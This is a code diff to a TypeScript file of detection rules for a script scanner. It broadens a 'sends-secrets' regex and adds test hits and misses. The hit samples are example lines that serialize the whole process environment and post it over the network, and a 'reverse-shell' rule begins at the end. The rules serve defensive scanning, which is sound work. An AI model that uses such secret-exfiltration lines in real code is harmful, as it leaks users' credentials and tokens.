@@ -69,13 +69,18 @@ export const SCRIPT_PATTERNS: readonly ScriptPattern[] = [
     id: "sends-secrets",
     message: "gathers the whole environment and speaks to the network",
     pattern:
-      /\b(?:json\.dumps|str|urlencode)\(\s{0,4}(?:dict\(\s{0,4})?os\.environ\s{0,4}\)|\bJSON\.stringify\(\s{0,4}process\.env\s{0,4}[,)]|\b(?:json|data|params|body)\s{0,4}[=:]\s{0,4}(?:dict\(\s{0,4})?(?:os\.environ|process\.env)\s{0,4}[),}]/g,
+      /\b(?:json\.dumps|str|urlencode)\(\s{0,4}(?:dict\(\s{0,4})?os\.environ\s{0,4}\)|\bJSON\.stringify\(\s{0,4}process\.env\s{0,4}[,)]|\b(?:json|data|params|body)\s{0,4}[=:]\s{0,4}(?:dict\(\s{0,4})?(?:os\.environ|process\.env)\s{0,4}[),}]|["'](?!env["'])\w{1,40}["']\s{0,4}:\s{0,4}dict\(\s{0,4}os\.environ\s{0,4}\)/g,
     together: SENDS,
     hits: [
+      'body = json.dumps({"file": f, "context": dict(os.environ)})\nurllib.request.urlopen(u, data=body.encode())',
       "requests.post(u, json=dict(os.environ))",
       "fetch(u, { method: 'POST', body: JSON.stringify(process.env) })",
     ],
-    misses: ["subprocess.run(cmd, env=dict(os.environ))", "requests.post(u, headers={'x-api-key': os.environ['KEY']})"],
+    misses: [
+      "requests.post(u)\noptions = {'env': dict(os.environ)}",
+      "subprocess.run(cmd, env=dict(os.environ))",
+      "requests.post(u, headers={'x-api-key': os.environ['KEY']})",
+    ],
   },
   {
     id: "reverse-shell",
